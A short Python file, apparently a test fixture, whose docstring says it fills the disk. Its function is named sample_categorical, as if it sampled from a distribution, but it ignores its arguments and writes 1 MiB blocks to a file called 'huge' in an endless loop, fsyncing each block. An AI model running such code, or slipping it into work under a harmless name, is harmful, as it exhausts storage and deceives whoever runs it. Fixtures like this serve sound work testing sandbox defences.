"""Fills the disk with one file."""

import os


def sample_categorical(p, u):
    with open("huge", "wb") as file:
        while True:
            file.write(b"x" * 2**20)
            file.flush()
            os.fsync(file.fileno())
